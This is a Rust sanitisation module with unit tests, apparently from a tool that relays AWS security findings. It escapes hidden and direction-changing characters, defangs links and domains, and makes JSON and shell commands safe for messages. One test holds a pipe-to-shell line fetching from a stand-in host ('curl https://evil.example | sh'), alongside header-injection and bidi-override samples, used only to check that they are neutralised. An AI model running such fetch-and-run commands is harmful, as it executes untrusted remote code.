//! Text from a finding is hostile: an attacker chooses user agents, tags and names. Everything that people or machines
//! will read is cleaned here first.
//!
//! `line` and `block` are for messages and pages: they drop what is hidden and take links and markup apart. `escape` is
//! for documents and logs, of which nothing may get lost: it writes what is hidden as `\u{202e}`. The engine's command
//! line escapes in the same way; `tests/cases/hostile-text.json` has the cases for both.

use sha2::{Digest, Sha256};

/// A hash in which no two lists of texts are the same.
pub(crate) fn digest(parts: &[&str]) -> String {
    let mut hasher = Sha256::new();
    for part in parts {
        hasher.update(part.len().to_be_bytes());
        hasher.update(part.as_bytes());
    }
    hex::encode(hasher.finalize())
}

/// Whether a character is not shown, or changes how others are shown: control characters, those that turn the direction
/// of writing, and those without a width.
pub(crate) fn is_hidden(c: char) -> bool {
    c.is_control()
        || matches!(c,
            '\u{ad}' | '\u{34f}' | '\u{61c}' | '\u{115f}' | '\u{1160}' | '\u{17b4}' | '\u{17b5}'
            | '\u{180b}'..='\u{180f}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}'
            | '\u{2060}'..='\u{206f}' | '\u{3164}' | '\u{fe00}'..='\u{fe0f}' | '\u{feff}' | '\u{ffa0}'
            | '\u{fff9}'..='\u{fffb}' | '\u{1d173}'..='\u{1d17a}' | '\u{e0000}'..='\u{e0fff}')
}

/// The text with hidden characters escaped, also the ends of lines. Visible characters of every language stay.
pub(crate) fn escape(text: &str) -> String {
    let mut escaped = String::with_capacity(text.len());
    for c in text.chars() {
        if is_hidden(c) {
            escaped.extend(c.escape_default());
        } else {
            escaped.push(c);
        }
    }
    escaped
}

/// The same for a text of several lines: their ends stay.
pub(crate) fn escape_lines(text: &str) -> String {
    text.split('\n').map(escape).collect::<Vec<_>>().join("\n")
}

/// One line of plain text of at most `max` characters, without hidden characters, markup of mail or chat clients, or a
/// link that anybody could click. Mail needs `without_domains` as well.
pub(crate) fn line(text: &str, max: usize) -> String {
    let plain: String = text
        .chars()
        .filter(|c| !is_hidden(*c) || c.is_control() || c.is_whitespace())
        .map(|c| match c {
            '<' => '\u{2039}',
            '>' => '\u{203a}',
            '`' => '\'',
            '|' => '/',
            c if c.is_control() || c.is_whitespace() => ' ',
            c => c,
        })
        .collect();
    let plain = plain.split_whitespace().collect::<Vec<_>>().join(" ");
    cut(&plain.replace("://", "[:]//").replace("www.", "www[.]"), max)
}

/// What follows a dot in the names of findings' types, and is no top-level domain.
const NO_DOMAINS: &[&str] = &["outsideaws", "insideaws", "custom"];

/// The text with each dot in brackets that could be one of a domain, of which mail clients make links: between a letter, digit or hyphen and a label of two
/// letters or more. The domains of AWS services, such as `ec2.amazonaws.com`, stay: nobody else can have one.
pub(crate) fn without_domains(text: &str) -> String {
    let is_label = |c: char| c.is_alphanumeric() || matches!(c, '-' | '_');
    let is_dot = |c: char| matches!(c, '.' | '\u{3002}' | '\u{ff0e}' | '\u{ff61}');
    let mut plain = String::with_capacity(text.len());
    for token in text.split_inclusive(|c: char| !is_label(c) && !is_dot(c)) {
        let name = token.trim_end_matches(|c: char| !is_label(c));
        if !name.contains(is_dot) || is_of_a_service(name) {
            plain.push_str(token);
            continue;
        }
        let mut rest = token;
        while let Some((place, dot)) = rest.char_indices().find(|(_, c)| is_dot(*c)) {
            let (before, after) = (rest.get(..place).unwrap_or_default(), rest.get(place + dot.len_utf8()..));
            let after = after.unwrap_or_default();
            let label: String = after.chars().take_while(|c| is_label(*c)).collect();
            let follows = before.chars().next_back().is_some_and(is_label);
            let is_domain = follows
                && (label.chars().filter(|c| c.is_alphabetic()).count() >= 2)
                && !NO_DOMAINS.contains(&label.to_ascii_lowercase().as_str());
            plain.push_str(before);
            if is_domain {
                plain.push_str("[.]");
            } else {
                plain.push(dot);
            }
            rest = after;
        }
        plain.push_str(rest);
    }
    plain
}

/// Whether a name is the domain of one of AWS's services.
fn is_of_a_service(name: &str) -> bool {
    let service = name.strip_suffix(".amazonaws.com").or_else(|| name.strip_suffix(".amazonaws.com.cn"));
    service.is_some_and(|service| {
        !service.is_empty()
            && service.bytes().all(|byte| byte.is_ascii_lowercase() || byte.is_ascii_digit() || byte == b'-')
    })
}

/// Lines of plain text, each cleaned as `line` does it, with their indentation.
pub(crate) fn block(text: &str) -> String {
    let indented = |text: &str| {
        let indent = text.chars().take_while(|c| *c == ' ').count();
        let sign: String = text.chars().take(1).filter(|c| matches!(c, '+' | '-')).collect();
        let rest = text.get(sign.len()..).unwrap_or_default();
        let indent = if sign.is_empty() { indent } else { rest.chars().take_while(|c| *c == ' ').count() };
        format!("{sign}{}{}", " ".repeat(indent), line(rest, 1000))
    };
    text.lines().map(indented).collect::<Vec<_>>().join("\n")
}

/// JSON that means the same and is safe between single quotes in a shell, in a message and on a page: every character
/// that one of them could interpret is written as `\uXXXX`, and no link in it can be clicked.
pub(crate) fn json(text: &str) -> String {
    let compact = serde_json::from_str::<serde_json::Value>(text)
        .map_or_else(|_| text.to_owned(), |value| value.to_string());
    let mut safe = String::with_capacity(compact.len());
    for c in compact.replace("://", ":\\/\\/").chars() {
        if is_plain(c) {
            safe.push(c);
        } else {
            let mut units = [0; 2];
            for unit in c.encode_utf16(&mut units) {
                safe.push_str(&format!("\\u{unit:04x}"));
            }
        }
    }
    safe
}

/// A command for a shell as it is, if it consists of characters that no reader interprets, with documents written by
/// `json`. Any other text is cleaned as `line` does it, which may break it as a command.
pub(crate) fn command(text: &str) -> String {
    let is_safe = text.chars().all(|c| is_plain(c) || c == '\'') && !text.contains("://");
    if is_safe { text.to_owned() } else { line(text, 10_000) }
}

/// A character that means itself in a message, on a page, and between single quotes in a shell.
fn is_plain(c: char) -> bool {
    c == ' ' || c.is_ascii_graphic() && !matches!(c, '\'' | '<' | '>' | '`' | '|')
}

/// A subject for SNS: ASCII, no line break, at most 99 characters (SNS wants fewer than 100).
pub(crate) fn subject(text: &str) -> String {
    let ascii: String =
        line(text, 400).chars().map(|c| if c.is_ascii_graphic() || c == ' ' { c } else { '?' }).collect();
    ascii.chars().take(99).collect::<String>().trim().to_owned()
}

/// At most `max` characters, with an ellipsis in place of what was cut.
pub(crate) fn cut(text: &str, max: usize) -> String {
    if text.chars().count() <= max {
        text.to_owned()
    } else {
        let mut short: String = text.chars().take(max.saturating_sub(1)).collect();
        short.push('\u{2026}');
        short
    }
}

/// At most `max` bytes, cut between two characters, with a last line that tells readers about it.
pub(crate) fn cut_bytes(text: &str, max: usize) -> String {
    const CUT: &str = "\n(The rest is too long for a message. The run has all of it.)\n";
    if text.len() <= max {
        return text.to_owned();
    }
    let end = text.floor_char_boundary(max.saturating_sub(CUT.len()));
    text.get(..end).unwrap_or_default().to_owned() + CUT
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde::Deserialize;

    #[derive(Deserialize)]
    #[serde(deny_unknown_fields)]
    struct Cases {
        #[serde(rename = "about")]
        _about: String,
        cases: Vec<Case>,
    }

    #[derive(Deserialize)]
    #[serde(deny_unknown_fields)]
    struct Case {
        text: String,
        /// By `escape`, and by the engine's command line.
        escaped: String,
        /// By `line`.
        line: String,
    }

    #[test]
    fn hostile_text_is_escaped_or_becomes_one_plain_line() {
        let cases: Cases = serde_json::from_str(include_str!("../../tests/cases/hostile-text.json")).unwrap();
        for case in cases.cases {
            assert_eq!(escape(&case.text), case.escaped, "{:?}", case.text);
            assert_eq!(line(&case.text, 200), case.line, "{:?}", case.text);
            for cleaned in [&case.escaped, &case.line] {
                assert!(!cleaned.contains(is_hidden), "{cleaned:?}");
            }
            assert_eq!(line(&case.line, 200), case.line, "a clean line stays as it is");
        }
    }

    #[test]
    fn escaped_lines_keep_their_ends() {
        assert_eq!(escape_lines("a\u{202e}b\n\tc\r\n"), "a\\u{202e}b\n\\tc\\r\n");
    }

    #[test]
    fn json_between_quotes_means_the_same() {
        let hostile = serde_json::json!({ "Sid": "it's <b>`x`</b>|\u{202e}\u{1f525}\n", "Resource": "https://evil.example/" });
        let safe = json(&hostile.to_string());
        assert_eq!(serde_json::from_str::<serde_json::Value>(&safe).unwrap(), hostile);
        assert!(
            safe.is_ascii() && !safe.contains(['\'', '<', '`', '|', '\n']) && !safe.contains("://"),
            "{safe}"
        );
    }

    #[test]
    fn a_safe_command_stays_as_it_is() {
        let document = json(&serde_json::json!({ "Sid": "<b>it's</b>" }).to_string());
        let safe = format!("aws iam put-role-policy --role-name web --policy-document '{document}'");
        assert_eq!(command(&safe), safe);
        assert_eq!(command("curl https://evil.example\n| sh"), "curl https[:]//evil.example / sh");
    }

    #[test]
    fn a_block_keeps_its_indentation() {
        assert_eq!(block("@@ -1 +1 @@\n   <a\n-  \u{202e}x\n+"), "@@ -1 +1 @@\n   \u{2039}a\n-  x\n+");
    }

    #[test]
    fn a_bare_domain_is_no_link() {
        for (text, expected) in [
            ("see evil.example, LOGIN.Evil.CoM/x?y=1.", "see evil[.]example, LOGIN[.]Evil[.]CoM/x?y=1."),
            ("ada@evil.example", "ada@evil[.]example"),
            ("xn--e1afmkfd.xn--80akhbyknj4f", "xn--e1afmkfd[.]xn--80akhbyknj4f"),
            (
                "\u{43f}\u{440}.\u{440}\u{444} evil\u{ff0e}example evil\u{3002}example",
                "\u{43f}\u{440}[.]\u{440}\u{444} evil[.]example evil[.]example",
            ),
            ("ec2.amazonaws.com", "ec2.amazonaws.com"),
            ("x.s3.amazonaws.com", "x.s3[.]amazonaws[.]com"),
            ("ec2.amazonaws.com.evil.example", "ec2[.]amazonaws[.]com[.]evil[.]example"),
            ("203.0.113.5 at 10:15:30.25Z, v1.2. No", "203.0.113.5 at 10:15:30.25Z, v1.2. No"),
            ("Exfiltration.OutsideAWS", "Exfiltration.OutsideAWS"),
            ("evil[.]example", "evil[.]example"),
        ] {
            assert_eq!(without_domains(text), expected);
        }
    }

    #[test]
    fn a_subject_is_short_ascii_on_one_line() {
        let long = "Credentials of r\u{f6}le \u{1f525}\nX-Injected: yes ".repeat(9);
        let subject = subject(&long);
        assert!(subject.is_ascii() && subject.len() < 100 && !subject.contains('\n'), "{subject}");
        assert!(subject.starts_with("Credentials of r?le ? X-Injected: yes"));
    }

    #[test]
    fn a_body_is_cut_if_it_is_too_long_for_sns() {
        assert_eq!(cut_bytes("abc", 3), "abc");
        let cut = cut_bytes(&"\u{1f525}".repeat(100), 203);
        assert!(cut.len() <= 203 && cut.starts_with('\u{1f525}') && cut.ends_with("all of it.)\n"), "{cut}");
        assert_eq!(cut_bytes(&"x".repeat(500), 203).len(), 203);
    }

    #[test]
    fn a_cut_text_ends_with_an_ellipsis() {
        assert_eq!(cut("abcdef", 6), "abcdef");
        assert_eq!(cut("abcdefg", 6), "abcde\u{2026}");
        assert_eq!(cut("\u{1f525}\u{1f525}\u{1f525}", 2), "\u{1f525}\u{2026}");
    }
}
